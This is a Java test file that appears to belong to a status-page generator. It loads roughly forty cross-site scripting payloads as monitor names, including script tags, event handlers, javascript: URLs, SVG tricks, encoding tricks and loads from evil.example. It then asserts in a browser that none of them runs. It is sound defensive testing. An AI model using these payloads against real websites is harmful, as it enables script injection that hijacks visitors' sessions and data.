package hopwatch.page;

import static hopwatch.page.PageFixtures.HOME;
import static hopwatch.page.PageFixtures.NOW;
import static hopwatch.page.PageFixtures.ago;
import static hopwatch.page.PageFixtures.config;
import static hopwatch.page.PageFixtures.incident;
import static hopwatch.page.PageFixtures.monitor;
import static hopwatch.page.PageFixtures.snapshot;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import hopwatch.config.Config;
import hopwatch.config.Group;
import hopwatch.config.Monitor;
import hopwatch.page.PageFixtures.Snapshots;
import hopwatch.page.badge.Badges;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Names that try to be more than names. Escaping alone must hold: the pages are loaded without their policy too. */
class HostileNamesTest {
    static final List<String> NAMES = List.of(
            "<script>ran=1</script>",
            "<script src=//evil.example/x.js></script>",
            "</script><script>ran=1</script>",
            "</title><script>ran=1</script>",
            "</textarea><script>ran=1</script>",
            "</style><script>ran=1</script>",
            "--><script>ran=1</script>",
            "]]><script>ran=1</script>",
            "<img src=x onerror=ran=1>",
            "<img src=x onerror=\"ran=1\" ",
            "<svg onload=ran=1>",
            "<svg><script>ran=1</script></svg>",
            "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
            "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='ran=1'/>#x\"/>",
            "<body onload=ran=1>",
            "<iframe src=javascript:ran=1>",
            "<iframe srcdoc=\"<script>parent.ran=1</script>\">",
            "<object data=javascript:ran=1>",
            "<embed src=javascript:ran=1>",
            "<a href=javascript:ran=1>x</a>",
            "<form action=javascript:ran=1><button>x</button></form>",
            "<details open ontoggle=ran=1>",
            "<input autofocus onfocus=ran=1>",
            "<video><source onerror=ran=1></video>",
            "<marquee onstart=ran=1>",
            "<math><mtext></mtext><script>ran=1</script></math>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:ran=1\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<template><script>ran=1</script></template>",
            "\" onmouseover=\"ran=1",
            "' onmouseover='ran=1",
            "` onmouseover=`ran=1",
            "\" autofocus onfocus=\"ran=1\" x=\"",
            "javascript:ran=1",
            "${ran=1} #{ran=1} {{ran=1}} <%= ran=1 %>",
            "+ADw-script+AD4-ran=1+ADw-/script+AD4-",
            "line\u2028separator\u2029<script>ran=1</script>",
            "\u202egnp.exe<script>ran=1</script>",
            "&lt;script&gt;ran=1&lt;/script&gt; &#60;script&#62;",
            "<scr\u0130pt>ran=1</scr\u0130pt><ſcript>ran=1</ſcript>");

    private final List<Monitor> monitors = monitors();

    private static List<Monitor> monitors() {
        List<Monitor> monitors = new ArrayList<>();
        for (String name : NAMES) {
            monitors.add(monitor("m" + monitors.size(), name, name, "origin " + name));
        }
        return monitors;
    }

    private Moment moment() {
        Config config = config(new Group(NAMES.get(0), true, monitors));
        Snapshots snapshot = snapshot();
        for (Monitor monitor : monitors) {
            snapshot = snapshot.with(incident(monitor.name(), monitor.name(), ago(Duration.ofHours(1)), null, monitor));
        }
        return Moment.live(config, snapshot.build(), Figures.NONE, NOW);
    }

    @Test
    void hostile_names_are_text_and_nothing_runs(@TempDir Path none) throws Exception {
        Printer printer = new Printer(
                new Templates(none), Assets.read(none), PageFixtures.english(), HOME, List.of(new Badges()));
        Shelf shelf = printer.print(moment(), null, path -> true);
        try (Browsers browsers = Browsers.open();
                Page page = browsers.browser().newPage()) {
            List<String> dialogs = new ArrayList<>();
            List<String> requests = new ArrayList<>();
            page.onDialog(dialog -> dialogs.add(dialog.message()));
            page.onRequest(request -> requests.add(request.url()));
            List<String> paths = new ArrayList<>(List.of("/", "/history", "/maintenance", "/uptime", "/subscribe"));
            monitors.forEach(monitor -> {
                paths.add(Paths.of(monitor));
                paths.add(Paths.of(monitor, Window.DAY, monitor.hops().get(1)));
                paths.add(Paths.of(monitor, LocalDate.parse("2026-11-20")));
                paths.add("/badges/" + monitor.id() + "/status.svg");
            });

            for (String path : paths) {
                page.setContent(PrinterTest.text(shelf, path));
                page.evaluate("document.querySelectorAll('a,button,input').forEach(e => { e.focus();"
                        + " e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true})) })");

                assertThat(page.evaluate("typeof ran")).as(path).isEqualTo("undefined");
                assertThat(page.evaluate(
                                "document.querySelectorAll('script:not([src^=\"/static/page.\"],[type$=json]),iframe,object,embed,"
                                        + "img:not([src^=\"/badges/\"]),base,video').length"))
                        .isEqualTo(0);
            }

            page.setContent(shelf.find("/", Freshness.LIVE)
                    .orElseThrow()
                    .page()
                    .identity()
                    .toString());
            assertThat(page.evaluate("[...document.querySelectorAll('.head .name')].map(e => e.textContent)"))
                    .isEqualTo(NAMES);
            page.setContent("<script>ran=1</script>");
            assertThat(page.evaluate("typeof ran")).as("the trap can spring").isEqualTo("number");
            assertThat(dialogs).isEmpty();
            assertThat(requests).noneMatch(url -> url.contains("evil"));
        }
    }
}
